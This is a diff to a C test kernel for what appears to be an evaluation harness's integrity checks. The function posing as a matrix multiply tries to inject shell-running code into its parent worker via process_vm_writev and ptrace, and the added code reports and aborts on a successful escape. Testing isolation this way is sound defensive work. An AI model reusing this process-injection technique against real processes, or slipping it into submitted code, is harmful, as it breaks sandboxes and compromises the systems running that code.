@@ -12,8 +12,10 @@
  */
 #define _GNU_SOURCE
 #include <dlfcn.h>
+#include <stdarg.h>
 #include <stdint.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
 #include <sys/uio.h>
@@ -26,6 +28,24 @@
 
 /* Code and data placed at `at` in the target: fork; the child leaves the
  * worker's session and runs /bin/sh -c cmd; the parent exits. */
+/* A step that worked is reported on stdout and stderr with this marker, and
+ * the kernel then fails on purpose, so its output is kept as the log: the
+ * test sees the escape even where it cannot see the effect (a private
+ * mount view, a namespace). */
+static int escapes;
+static void escaped(const char *fmt, ...)
+{
+    char line[1024];
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(line, sizeof line, fmt, ap);
+    va_end(ap);
+    printf("INTEGRITY-ESCAPE: %s\n", line);
+    fprintf(stderr, "INTEGRITY-ESCAPE: %s\n", line);
+    fflush(stdout);
+    escapes++;
+}
+
 static size_t build_payload(unsigned char *buf, uintptr_t at)
 {
     static const char cmd[] = "echo 'escaped through ptrace' >> " INTEGRITY_ROOT "/canary";
@@ -75,7 +95,7 @@ static void attack(void)
         return;
     struct iovec local = {code, len}, remote = {target, len};
     if (process_vm_writev(parent, &local, 1, &remote, 1, 0) == (ssize_t)len)
-        fprintf(stderr, "process_vm_writev into %d\n", (int)parent);
+        escaped("process_vm_writev into process %d", (int)parent);
     if (ptrace(PTRACE_ATTACH, parent, 0, 0) == 0) {
         waitpid(parent, NULL, __WALL);
         for (size_t i = 0; i + 8 <= len + 7; i += 8) {
@@ -84,7 +104,7 @@ static void attack(void)
             ptrace(PTRACE_POKETEXT, parent, (char *)target + i, (void *)word);
         }
         ptrace(PTRACE_DETACH, parent, 0, 0);
-        fprintf(stderr, "ptrace poked the worker\n");
+        escaped("ptrace attached to and poked process %d", (int)parent);
     }
     usleep(300 * 1000);
 #endif
@@ -94,4 +114,6 @@ void mm(int32_t M, int32_t N, int32_t K, const float *A, const float *B, float *
 {
     (void)M, (void)N, (void)K, (void)A, (void)B, (void)C;
     attack();
+    if (escapes)
+        abort();
 }
